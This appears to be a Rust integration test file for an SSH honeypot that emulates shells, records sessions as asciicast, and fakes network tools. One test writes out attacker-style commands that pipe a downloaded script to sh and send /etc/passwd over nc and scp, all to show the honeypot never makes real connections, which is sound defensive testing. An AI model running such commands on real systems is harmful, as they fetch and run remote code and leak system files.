//! One SSH connection's session: the interactive shell and exec channels side by side.

use crate::common::{NodeProcess, SshShell};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exec_runs_like_bash_c_and_leaves_the_interactive_shell_alone() {
    let node = NodeProcess::start(&[]);
    let mut shell = SshShell::open(node.ssh).await;
    assert_eq!(shell.run("cd /tmp").await, "");
    assert_eq!(shell.run("export FOO=interactive").await, "");

    // An exec channel on the same connection starts from a fresh login, like `bash -c`.
    let (out, status) = shell
        .exec("pwd; echo ${FOO:-unset}; cd /var; export FOO=exec")
        .await;
    assert_eq!(out, "/root\nunset\n");
    assert_eq!(status, Some(0));
    let (out, status) = shell.exec("exit 7").await;
    assert_eq!((out.as_str(), status), ("", Some(7)));

    // …and changes nothing the interactive shell keeps.
    assert_eq!(shell.run("pwd").await, "/tmp\r\n");
    assert_eq!(shell.run("echo $FOO").await, "interactive\r\n");
    let history = shell.run("history").await;
    assert!(
        !history.contains("exit 7") && !history.contains("cd /var"),
        "{history:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn output_that_outruns_the_connection_arrives_whole_and_in_order() {
    let node = NodeProcess::start(&[]);
    let mut shell = SshShell::open(node.ssh).await;
    // Fifty lines typed at once: some 250 outputs in a burst, far more than russh queues for
    // a connection, so most of them wait in the channel's writer. The last line changes the
    // prompt, to know when everything arrived.
    let typed: String = (1..=50).map(|n| format!("echo line-{n}\r")).collect();
    let text = shell
        .type_until(&format!("{typed}PS1='done> '"), "done> ")
        .await;
    let outputs: Vec<&str> = text
        .split("\r\n")
        .filter(|piece| piece.starts_with("line-"))
        .collect();
    let expected: Vec<String> = (1..=50).map(|n| format!("line-{n}")).collect();
    assert_eq!(outputs, expected, "{text:?}");
    // The connection goes on as before.
    let (out, status) = shell.exec("echo after").await;
    assert_eq!((out.as_str(), status), ("after\n", Some(0)));
}

/// Opens a PTY shell, runs `line`, leaves, and returns the JSON log once it holds the
/// session's `cowrie.log.closed` event.
async fn record_one_session(node: &NodeProcess, line: &str) -> Vec<serde_json::Value> {
    let mut shell = SshShell::open(node.ssh).await;
    shell.run(line).await;
    drop(shell);
    tokio::task::block_in_place(|| {
        node.wait_for_log("the recording's close", |e| {
            e["eventid"] == "cowrie.log.closed"
        })
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn interactive_sessions_are_recorded_as_asciicast_that_asciinema_replays() {
    let node = NodeProcess::start(&[]);
    let events = record_one_session(&node, "echo recorded-$((6*7))").await;
    let closed = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.log.closed")
        .unwrap();
    let session = closed["session"].as_str().unwrap();
    assert_eq!(closed["ttylog"], format!("tty/{session}.cast"));
    let path = node.data_dir.join(closed["ttylog"].as_str().unwrap());
    let bytes = std::fs::read(&path).unwrap();
    assert_eq!(closed["size"], bytes.len());
    use sha2::Digest;
    assert_eq!(closed["shasum"], hex::encode(sha2::Sha256::digest(&bytes)));

    let header: serde_json::Value =
        serde_json::from_str(std::str::from_utf8(&bytes).unwrap().lines().next().unwrap()).unwrap();
    assert_eq!(
        (header["version"].as_u64(), header["width"].as_u64()),
        (Some(2), Some(80))
    );

    // The real player replays it: the typed line, then its output.
    let played = std::process::Command::new("python3")
        .args(["-m", "asciinema", "cat"])
        .arg(&path)
        .output()
        .expect("asciinema is installed (pip install asciinema; .ci/run does it)");
    assert!(
        played.status.success(),
        "{}",
        String::from_utf8_lossy(&played.stderr)
    );
    let screen = crate::common::shown(&String::from_utf8_lossy(&played.stdout));
    assert!(
        screen.contains("echo recorded-$((6*7))\r\nrecorded-42\r\n"),
        "{screen:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn recordings_stop_at_their_size_limit_and_can_be_turned_off() {
    let node = NodeProcess::start(&[("MIRAGE_RECORDING_MAX_BYTES", "700")]);
    let events = record_one_session(&node, "echo {1..300}").await;
    let closed = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.log.closed")
        .unwrap();
    let text =
        std::fs::read_to_string(node.data_dir.join(closed["ttylog"].as_str().unwrap())).unwrap();
    assert!(text.len() <= 700, "{} bytes", text.len());
    assert!(
        text.lines().last().unwrap().contains("\"m\""),
        "ends with the marker: {text}"
    );

    let node = NodeProcess::start(&[("MIRAGE_RECORDING_ENABLED", "false")]);
    let mut shell = SshShell::open(node.ssh).await;
    assert_eq!(shell.run("echo hi").await, "hi\r\n");
    drop(shell);
    tokio::task::block_in_place(|| {
        node.wait_for_log("the session's close", |e| {
            e["eventid"] == "cowrie.session.closed"
        })
    });
    assert!(!node.data_dir.join("tty").exists());
    assert!(
        !node
            .log_events()
            .iter()
            .any(|e| e["eventid"] == "cowrie.log.closed")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn downloads_and_connections_are_emulated_logged_and_never_made() {
    // A real server the URL points at; nothing may ever connect to it.
    let bait = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    bait.set_nonblocking(true).unwrap();
    let url = format!("http://{}/bins.sh", bait.local_addr().unwrap());
    let node = NodeProcess::start(&[]);
    let mut shell = SshShell::open(node.ssh).await;
    let out = shell.run(&format!("cd /tmp; wget {url}")).await;
    assert!(out.contains("saved ["), "{out:?}");
    let listing = shell.run("ls /tmp").await;
    assert!(listing.contains("bins.sh"), "{listing:?}");
    let events = tokio::task::block_in_place(|| {
        node.wait_for_log("the download", |e| {
            e["eventid"] == "cowrie.session.file_download"
        })
    });
    let download = events
        .iter()
        .find(|e| e["eventid"] == "cowrie.session.file_download")
        .unwrap();
    assert_eq!(download["url"], url);
    assert_eq!(download["outfile"], "/tmp/bins.sh");
    assert_eq!(download["shasum"].as_str().unwrap().len(), 64);
    // Every other tool an attacker reaches the network with, at the same real listener (TCP)
    // and a real UDP socket on the same port (tftp): answered, never done.
    let bait_addr = bait.local_addr().unwrap();
    let udp_bait = std::net::UdpSocket::bind(bait_addr).unwrap();
    udp_bait.set_nonblocking(true).unwrap();
    let (host, port) = (bait_addr.ip(), bait_addr.port());
    for command in [
        format!("curl -sS -o /tmp/c.sh {url}"),
        format!("curl -s {url} | sh"),
        format!("wget -qO- {url} | sh"),
        format!("nc {host} {port} < /etc/passwd"),
        format!("nc -u {host} {port} < /etc/passwd"),
        format!("ssh -p {port} root@{host} id"),
        format!("scp -P {port} /etc/passwd root@{host}:/tmp/"),
        format!("telnet {host} {port}"),
        format!("ftpget {host} f f"),
        format!("tftp -g -r f {host} {port}"),
        format!("busybox wget {url}"),
    ] {
        let (out, status) = shell.exec(&command).await;
        assert!(status.is_some(), "{command}: no exit status ({out:?})");
    }
    let contacted = bait.accept();
    assert!(
        matches!(&contacted, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "a command reached the network for real: {contacted:?}"
    );
    let mut datagram = [0u8; 64];
    let received = udp_bait.recv_from(&mut datagram);
    assert!(
        matches!(&received, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "a command sent a datagram for real: {received:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_open_loop_gets_the_continuation_prompt_like_bash() {
    let node = NodeProcess::start(&[]);
    let mut shell = SshShell::open(node.ssh).await;
    assert!(
        shell
            .type_until("for i in 1 2 3; do", "\r\n> ")
            .await
            .ends_with("> ")
    );
    shell.type_until("echo n$i", "\r\n> ").await;
    assert_eq!(shell.run("done").await, "n1\r\nn2\r\nn3\r\n");
    let history = shell.run("history").await;
    assert!(history.contains("for i in 1 2 3; do"), "{history:?}");

    // `ssh host 'for i in 1; do'`: bash -c stops with a syntax error, status 2.
    let (out, status) = shell.exec("for i in 1; do").await;
    assert!(
        out.contains("syntax error: unexpected end of file"),
        "{out:?}"
    );
    assert_eq!(status, Some(2));
}
